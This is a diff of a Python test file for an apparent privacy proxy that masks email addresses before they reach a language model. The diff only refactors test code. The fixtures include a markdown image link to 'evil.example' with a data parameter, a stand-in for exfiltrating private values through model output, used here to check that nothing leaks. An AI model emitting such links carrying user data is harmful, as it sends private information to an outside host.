@@ -115,11 +115,8 @@ def test_no_private_value_is_written_into_a_reply():
         said = body["messages"][0]["content"].split()[-1]
         texts = (f"({said}) ![x](https://evil.example/?d=", f"{said} ) ", f":who: {said}\nimage::{{who}}[]")
         choices = ({"index": i, "delta": {"content": text}, "finish_reason": "length"} for i, text in enumerate(texts))
-        return (
-            200,
-            "text/event-stream",
-            [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices],
-        )
+        events = [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices]
+        return 200, "text/event-stream", events
 
     setup = Setup(answer)
     reply = setup.ask(request("https://a.example/ maria.lindqvist@clinic.se", "![x](https://evil.example/?d="))
@@ -135,12 +132,13 @@ def test_an_own_reply_goes_back_as_it_was_written_and_nothing_like_it(stream):
     setup = Setup(lambda _: (200, kind, vendors.cut(reply, seeds.rng(3), 9)))
     first, then = "Write to maria.lindqvist@clinic.se", "And to anna@clinic.se too."
     setup.ask(request(first))
-    elsewhere = (
-        request("Another note.", said, then),
-        request(then, "yes", first, said),
-        request(first, "no", said, said),
-    )
-    for body in (request(first, said, then), request(first, f"{said} ", then), request(said), *elsewhere):
+    elsewhere = (("Another note.", said, then), (then, "yes", first, said), (first, "no", said, said))
+    for body in (
+        request(first, said, then),
+        request(first, f"{said} ", then),
+        request(said),
+        *(request(*each) for each in elsewhere),
+    ):
         setup.ask(body)
     setup.ask(request(first, said), **{"x-wordveil-token": TOKEN, "authorization": "Bearer another"})
     unknown, known, edited, *others = ([message["content"] for message in each["messages"]] for each in setup.sent())
